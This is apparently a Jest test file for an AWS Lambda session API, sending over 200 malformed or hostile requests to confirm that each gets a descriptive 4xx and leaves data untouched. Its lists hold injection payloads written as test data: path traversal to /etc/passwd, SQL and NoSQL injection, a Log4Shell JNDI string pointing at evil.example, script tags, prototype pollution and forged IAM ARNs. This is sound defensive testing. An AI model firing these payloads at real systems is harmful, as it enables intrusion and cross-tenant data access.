import type { APIGatewayProxyEvent } from 'aws-lambda';
import { ID_PATTERN, MAX_BODY_BYTES, MAX_MESSAGE_BYTES } from '../../../lambda/core/http/request-schemas';
import { ScriptedModel } from '../core/support/scripted-model';
import { ACCOUNT, ALICE, ALVIN, api, apiEvent, BOB } from './support/api-events';
import { startOrchestratorHarness, TEST_LIMITS, type OrchestratorHarness } from './support/orchestrator-harness';

/**
 * A corpus of malformed and hostile requests, generated here: every one must
 * get a 4xx that says what is wrong (never a 5xx), and the table and bucket
 * must be byte-identical afterwards.
 */
let harness: OrchestratorHarness;
const VICTIM = 'victim';
const BOB_SESSION = 'bob-session';

beforeAll(async () => {
  harness = await startOrchestratorHarness();
  const send = harness.handlerWith(ScriptedModel.echoing());
  await send(api.create({ sessionId: VICTIM }, ALICE));
  await send(api.turn(VICTIM, { requestId: 'r-1', message: 'the only real turn' }, ALICE));
  await send(api.create({ sessionId: BOB_SESSION }, BOB));
});

afterAll(async () => {
  await harness?.stop();
});

interface Case {
  readonly name: string;
  readonly event: APIGatewayProxyEvent;
}

/** Ids an attacker or a buggy client might put where a session or request id goes. */
const HOSTILE_IDS: readonly string[] = [
  '',
  ' ',
  '.',
  '..',
  '../',
  '../../etc/passwd',
  '..%2F..%2Fverify',
  "' OR 1=1 --",
  '" OR ""="',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '{"$gt":""}',
  'a\u0000b',
  '\u0000',
  '%00',
  'a b',
  'a\nb',
  '\u202Eexe.txt',
  '\uFF41\uFF44\uFF4D\uFF49\uFF4E',
  'e\u0301',
  'victim\u200B',
  '\uD83D\uDE00',
  '\uD800',
  'T#other#S#x',
  `T#agency-b#S#${BOB_SESSION}`,
  `${VICTIM}#`,
  'a/b',
  'a:b',
  'a.b',
  '-lead',
  '_lead',
  'x'.repeat(129),
  'x'.repeat(100_000),
];

/** A JSON body text with the given content type (or none). */
function turnEvent(body: unknown, options: { headers?: Record<string, string> | null; caller?: string | null; sessionId?: string } = {}) {
  return apiEvent({
    method: 'POST',
    resource: '/sessions/{sessionId}/turns',
    pathParameters: { sessionId: options.sessionId ?? VICTIM },
    body,
    headers: options.headers,
    caller: options.caller,
  });
}

function createEvent(body: unknown, options: { headers?: Record<string, string> | null; caller?: string | null; query?: Record<string, string> } = {}) {
  return apiEvent({ method: 'POST', resource: '/sessions', body, headers: options.headers, caller: options.caller, query: options.query });
}

function corpus(): Case[] {
  const cases: Case[] = [];
  const add = (name: string, event: APIGatewayProxyEvent) => cases.push({ name, event });
  const show = (value: string) => JSON.stringify(value.length > 40 ? `${value.slice(0, 40)}…(${value.length})` : value);

  // Hostile session ids on every session route (valid-looking ids of absent sessions are 404).
  for (const id of HOSTILE_IDS) {
    add(`read sessionId=${show(id)}`, api.read(id));
    add(`turn sessionId=${show(id)}`, api.turn(id, { requestId: 'r-new', message: 'hi' }));
    add(`verify sessionId=${show(id)}`, api.verify(id));
    add(`delete sessionId=${show(id)}`, api.delete(id));
  }
  // Hostile request ids (only the malformed ones: a valid id would be a real turn).
  for (const id of HOSTILE_IDS.filter((value) => !ID_PATTERN.test(value))) {
    add(`turn requestId=${show(id)}`, api.turn(VICTIM, { requestId: id, message: 'hi' }));
  }
  // Hostile session ids asked for on create.
  for (const id of HOSTILE_IDS.filter((value) => !ID_PATTERN.test(value))) {
    add(`create sessionId=${show(id)}`, api.create({ sessionId: id }));
  }

  // Bodies that are not JSON, or not the JSON object a turn takes.
  const notJson = ['{', 'not json', "{'requestId':'r-2'}", '{"requestId":"r-2","message":"hi"', 'undefined', 'NaN', '{"a":1}{"b":2}', '\u0000', '[1,]'];
  for (const text of notJson) {
    add(`turn body ${show(text)}`, turnEvent(text));
    add(`create body ${show(text)}`, createEvent(text));
  }
  for (const text of ['null', '[]', '1', '"text"', 'true', '[{"requestId":"r-2","message":"hi"}]']) {
    add(`turn body ${text}`, turnEvent(text));
    add(`create body ${text}`, createEvent(text));
  }
  add('turn body {}', turnEvent({}));
  add('turn without message', turnEvent({ requestId: 'r-2' }));
  add('turn without requestId', turnEvent({ message: 'hi' }));
  add('turn without body', turnEvent(undefined));
  for (const [field, value] of [
    ['requestId', 1],
    ['requestId', null],
    ['requestId', true],
    ['requestId', []],
    ['requestId', {}],
    ['message', 1],
    ['message', null],
    ['message', []],
    ['message', { text: 'hi' }],
    ['message', true],
    ['message', ''],
    ['message', '   \n\t '],
  ] as const) {
    add(`turn ${field}=${JSON.stringify(value)}`, turnEvent({ requestId: 'r-2', message: 'hi', [field]: value }));
  }
  add('turn message with a lone surrogate', turnEvent('{"requestId":"r-2","message":"broken \\ud800 text"}'));
  add('turn message 1e400', turnEvent('{"requestId":"r-2","message":1e400}'));
  // Fields a caller may not set: the tenant above all.
  for (const field of ['tenant', 'tenantId', 'tenant_id', 'Tenant', 'sessionId', 'actor', 'owner', 'role', 'version', 'maxTokens', 'constructor', 'prototype']) {
    add(`turn with extra field ${field}`, turnEvent({ requestId: 'r-2', message: 'hi', [field]: 'agency-b' }));
  }
  add('turn with __proto__', turnEvent('{"requestId":"r-2","message":"hi","__proto__":{"tenant":"agency-b"}}'));
  // Sizes: the message limit (413), the body limit (413), a deeply nested body.
  add('turn message one byte over the limit', turnEvent({ requestId: 'r-2', message: 'x'.repeat(MAX_MESSAGE_BYTES + 1) }));
  add('turn multibyte message over the limit', turnEvent({ requestId: 'r-2', message: '\u20AC'.repeat(Math.ceil(MAX_MESSAGE_BYTES / 3) + 1) }));
  add('turn body over the limit', turnEvent({ requestId: 'r-2', message: 'x'.repeat(MAX_BODY_BYTES) }));
  add('create body over the limit', createEvent({ sessionId: 'big', padding: 'x'.repeat(MAX_BODY_BYTES) }));
  add('turn deeply nested body', turnEvent(`${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`));
  add('turn deeply nested array', turnEvent('['.repeat(200_000)));
  // Content types.
  for (const contentType of [
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/json; charset=latin1',
    'APPLICATION/JSON; charset=utf-16',
    'application/jsonx',
    'text/json',
    '',
  ]) {
    add(`turn Content-Type ${show(contentType)}`, turnEvent({ requestId: 'r-2', message: 'hi' }, { headers: { 'Content-Type': contentType } }));
  }
  add('turn without Content-Type', turnEvent({ requestId: 'r-2', message: 'hi' }, { headers: {} }));
  add('turn with null headers', turnEvent({ requestId: 'r-2', message: 'hi' }, { headers: null }));
  add('create without Content-Type', createEvent({ maxTokens: 10 }, { headers: {} }));
  add('turn base64 body that is not UTF-8', { ...turnEvent(Buffer.from([0xff, 0xfe, 0x00]).toString('base64')), isBase64Encoded: true });
  add('turn base64 body with a tenant', {
    ...turnEvent(Buffer.from(JSON.stringify({ requestId: 'r-2', message: 'hi', tenant: 'agency-b' })).toString('base64')),
    isBase64Encoded: true,
  });
  add('turn with a query parameter', { ...turnEvent({ requestId: 'r-2', message: 'hi' }), queryStringParameters: { debug: '1' }, multiValueQueryStringParameters: { debug: ['1'] } });
  add('turn reusing a requestId for another message', turnEvent({ requestId: 'r-1', message: 'not the original message' }));

  // Create bodies.
  for (const [name, body] of [
    ['tenant', { tenant: 'agency-b' }],
    ['tenantId', { tenantId: 'agency-b' }],
    ['tenant with a session id', { sessionId: 'fresh-1', tenant: 'agency-b' }],
    ['owner', { owner: 'someone-else' }],
    ['version', { version: 5 }],
    ['status', { status: 'idle' }],
    ['summary', { summary: 'planted' }],
    ['budget object', { budget: { maxTokens: 5 } }],
    ['maxTokens -1', { maxTokens: -1 }],
    ['maxTokens 0', { maxTokens: 0 }],
    ['maxTokens 1.5', { maxTokens: 1.5 }],
    ['maxTokens "100"', { maxTokens: '100' }],
    ['maxTokens null', { maxTokens: null }],
    ['maxTokens true', { maxTokens: true }],
    ['maxTokens []', { maxTokens: [] }],
    ['maxTokens 1e20', { maxTokens: 1e20 }],
    ['maxTokens 2^53+1', { maxTokens: 9007199254740993 }],
    ['maxTokens over the deployment budget', { maxTokens: TEST_LIMITS.tokenBudget + 1 }],
    ['sessionId of an existing session', { sessionId: VICTIM }],
    ['sessionId 42', { sessionId: 42 }],
  ] as const) {
    add(`create ${name}`, createEvent(body));
  }
  add('create maxTokens 1e400', createEvent('{"maxTokens":1e400}'));
  add('create maxTokens -0', createEvent('{"maxTokens":-0}'));
  add('create with a query parameter', createEvent({}, { query: { tenant: 'agency-b' } }));
  add('create Content-Type text/plain', createEvent({ maxTokens: 10 }, { headers: { 'Content-Type': 'text/plain' } }));

  // Read queries.
  for (const afterSeq of ['abc', '-1', '1.5', '1e3', '', ' 1', '99999999999', '0x10', 'NaN', 'Infinity', '1;DROP TABLE']) {
    add(`read afterSeq=${show(afterSeq)}`, api.read(VICTIM, { afterSeq }));
  }
  for (const limit of ['0', '-5', '101', '1000000', 'abc', '', '2.5', '-0']) {
    add(`read limit=${show(limit)}`, api.read(VICTIM, { limit }));
  }
  add('read with tenant query', api.read(VICTIM, { tenant: 'agency-b' }));
  add('read with unknown query', api.read(VICTIM, { foo: 'bar' }));
  add('read with a repeated limit', apiEvent({ method: 'GET', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM }, query: { limit: ['1', '2'] } }));
  add('verify with a query', apiEvent({ method: 'GET', resource: '/sessions/{sessionId}/verify', pathParameters: { sessionId: VICTIM }, query: { afterSeq: '1' } }));
  add('delete with a query', apiEvent({ method: 'DELETE', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM }, query: { force: 'true' } }));
  add('read with a body', apiEvent({ method: 'GET', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM }, body: { limit: 1 } }));
  add('delete with a body', apiEvent({ method: 'DELETE', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM }, body: { sessionId: VICTIM } }));
  add('read without path parameters', apiEvent({ method: 'GET', resource: '/sessions/{sessionId}', pathParameters: null }));
  add('list with a body', apiEvent({ method: 'GET', resource: '/sessions', body: { limit: 1 } }));
  add('list with a repeated limit', apiEvent({ method: 'GET', resource: '/sessions', query: { limit: ['1', '2'] } }));
  add('list with a tenant', apiEvent({ method: 'GET', resource: '/sessions', query: { tenant: 'agency-b' } }));
  add('list with a huge cursor', apiEvent({ method: 'GET', resource: '/sessions', query: { cursor: 'A'.repeat(20_000) } }));
  add('inbox with an owner', apiEvent({ method: 'GET', resource: '/approvals', query: { owner: 'x' } }));
  add('inbox with a cursor of nothing', apiEvent({ method: 'GET', resource: '/approvals', query: { cursor: Buffer.from('{}').toString('base64url') } }));
  add('read with an extra path parameter', apiEvent({ method: 'GET', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM, tenant: 'agency-b' } }));

  // Routes and methods.
  const resources = ['/sessions', '/sessions/{sessionId}', '/sessions/{sessionId}/turns', '/sessions/{sessionId}/verify', '/approvals'];
  const allowed: Record<string, string[]> = {
    '/sessions': ['POST', 'GET'],
    '/approvals': ['GET'],
    '/sessions/{sessionId}': ['GET', 'DELETE'],
    '/sessions/{sessionId}/turns': ['POST'],
    '/sessions/{sessionId}/verify': ['GET'],
  };
  for (const resource of resources) {
    for (const method of ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'get', '', 'DELETE ']) {
      if (allowed[resource].includes(method)) continue;
      add(`${JSON.stringify(method)} ${resource}`, apiEvent({ method, resource, pathParameters: resource === '/sessions' || resource === '/approvals' ? null : { sessionId: VICTIM } }));
    }
  }
  for (const resource of ['/', '', '/session', '/sessions/', '/sessions/{sessionId}/turns/{turnId}', '/admin', '__proto__', 'constructor', 'toString', '/sessions/{sessionId}/../verify', '/SESSIONS', '/sessions/{sessionId}/verify\u0000']) {
    add(`GET ${show(resource)}`, apiEvent({ method: 'GET', resource, pathParameters: { sessionId: VICTIM } }));
  }

  // Callers: missing, unknown, or dressed up as a mapped one.
  const callers: [string, string | null][] = [
    ['no caller', null],
    ['empty caller', ''],
    ['account root', `arn:aws-us-gov:iam::${ACCOUNT}:root`],
    ['unmapped role', `arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/SomeOtherRole/mallory`],
    ['mapped role name in another account', 'arn:aws-us-gov:sts::999999999999:assumed-role/AgencyAApp/mallory'],
    ['mapped role in the other partition', `arn:aws:sts::${ACCOUNT}:assumed-role/AgencyAApp/mallory`],
    ['federated user', `arn:aws-us-gov:sts::${ACCOUNT}:federated-user/mallory`],
    ['IAM user not mapped', `arn:aws-us-gov:iam::${ACCOUNT}:user/mallory`],
    ['not an ARN', 'mallory'],
    ['ARN with a NUL', `${ALICE}\u0000`],
    ['ARN with a traversal', `arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/AgencyAApp/../AgencyBApp`],
    ['ARN with a trailing slash', `arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/AgencyAApp/`],
    ['ARN in another case', ALICE.toUpperCase()],
    ['ARN with spaces', ` ${ALICE} `],
    ['ARN with an injected tenant', `arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/AgencyAApp/alice#agency-b`],
  ];
  for (const [name, caller] of callers) {
    add(`create by ${name}`, api.create({ sessionId: 'fresh-2' }, caller));
    add(`turn by ${name}`, api.turn(VICTIM, { requestId: 'r-2', message: 'hi' }, caller));
    add(`delete by ${name}`, api.delete(VICTIM, caller));
  }
  add('event without requestContext', { ...api.read(VICTIM), requestContext: undefined } as unknown as APIGatewayProxyEvent);
  add('event without identity', { ...api.read(VICTIM), requestContext: { ...api.read(VICTIM).requestContext, identity: undefined } } as unknown as APIGatewayProxyEvent);

  // Other tenants' and other principals' sessions.
  add('bob reads victim', api.read(VICTIM, undefined, BOB));
  add('bob turns victim', api.turn(VICTIM, { requestId: 'r-2', message: 'hi' }, BOB));
  add('bob verifies victim', api.verify(VICTIM, BOB));
  add('bob deletes victim', api.delete(VICTIM, BOB));
  add('alice reads bob-session', api.read(BOB_SESSION, undefined, ALICE));
  add('alice deletes bob-session', api.delete(BOB_SESSION, ALICE));
  add('alvin turns victim', api.turn(VICTIM, { requestId: 'r-2', message: 'hi' }, ALVIN));
  add('alvin deletes victim', api.delete(VICTIM, ALVIN));
  add('turn on an absent session', api.turn('no-such-session', { requestId: 'r-2', message: 'hi' }));
  return cases;
}

test('every malformed or hostile request gets a 4xx that says what is wrong, and nothing is written', async () => {
  const cases = corpus();
  expect(cases.length).toBeGreaterThanOrEqual(200);
  const model = ScriptedModel.answering();
  const send = harness.handlerWith(model);
  const before = await harness.snapshot();

  const outcomes: { name: string; statusCode: number; code: unknown; message: unknown }[] = [];
  for (const { name, event } of cases) {
    const response = await send(event);
    outcomes.push({ name, statusCode: response.statusCode, code: response.body?.error?.code, message: response.body?.error?.message });
  }

  const serverErrors = outcomes.filter((outcome) => outcome.statusCode >= 500);
  const notClientErrors = outcomes.filter((outcome) => outcome.statusCode < 400 || outcome.statusCode >= 500);
  expect(serverErrors).toEqual([]);
  expect(notClientErrors).toEqual([]);
  for (const outcome of outcomes) {
    expect(typeof outcome.code).toBe('string');
    expect(typeof outcome.message).toBe('string');
    expect((outcome.message as string).length).toBeGreaterThan(0);
  }
  expect(model.prompts).toHaveLength(0);
  expect(await harness.snapshot()).toBe(before);
});

test('the errors say what is wrong', async () => {
  const send = harness.handlerWith(ScriptedModel.answering());
  const cases: [APIGatewayProxyEvent, number, string, unknown?][] = [
    [api.turn(VICTIM, { requestId: 'r-2', message: 'hi', tenant: 'agency-b' }), 400, 'ValidationError', [
      { path: 'body.tenant', message: "is not a field of this request: the tenant comes from the caller's IAM identity, never from the request" },
    ]],
    [api.turn(VICTIM, { requestId: '../x', message: 1 }), 400, 'ValidationError', [
      { path: 'body.requestId', message: "must be 1 to 128 letters, digits, '_' or '-', starting with a letter or digit" },
      { path: 'body.message', message: expect.stringContaining('expected string') },
    ]],
    [api.read(VICTIM, { limit: '101' }), 400, 'ValidationError', [{ path: 'query.limit', message: 'must be at most 100' }]],
    [api.read(VICTIM, { afterSeq: '-1' }), 400, 'ValidationError', [{ path: 'query.afterSeq', message: 'must be a whole number written in digits' }]],
    [api.read('../x'), 400, 'ValidationError', [{ path: 'path.sessionId', message: expect.stringContaining('letters, digits') }]],
    [turnEvent('{'), 400, 'InvalidJson'],
    [turnEvent({ requestId: 'r-2', message: 'hi' }, { headers: { 'Content-Type': 'text/plain' } }), 415, 'UnsupportedMediaType'],
    [turnEvent({ requestId: 'r-2', message: 'x'.repeat(MAX_MESSAGE_BYTES + 1) }), 413, 'PayloadTooLarge', undefined],
    [api.read(VICTIM, undefined, null), 403, 'Forbidden'],
    [apiEvent({ method: 'PUT', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM } }), 405, 'MethodNotAllowed'],
    [apiEvent({ method: 'GET', resource: '/admin' }), 404, 'RouteNotFound'],
    [api.create({ sessionId: VICTIM }), 409, 'SessionExists'],
  ];
  for (const [event, statusCode, code, issues] of cases) {
    const response = await send(event);
    expect({ statusCode: response.statusCode, code: response.body.error.code }).toEqual({ statusCode, code });
    if (issues !== undefined) expect(response.body.error.details.issues).toEqual(issues);
  }
  const tooLarge = await send(turnEvent({ requestId: 'r-2', message: 'x'.repeat(MAX_MESSAGE_BYTES + 1) }));
  expect(tooLarge.body.error.details).toEqual({ field: 'message', sizeBytes: MAX_MESSAGE_BYTES + 1, limitBytes: MAX_MESSAGE_BYTES });
  const notAllowed = await send(apiEvent({ method: 'PUT', resource: '/sessions/{sessionId}', pathParameters: { sessionId: VICTIM } }));
  expect(notAllowed.headers.Allow).toBe('GET, DELETE');
  const unmapped = await send(api.read(VICTIM, undefined, `arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/SomeOtherRole/mallory`));
  expect(unmapped.body.error.message).toBe(
    `caller arn:aws-us-gov:sts::${ACCOUNT}:assumed-role/SomeOtherRole/mallory is not mapped to a tenant of this deployment`,
  );
});
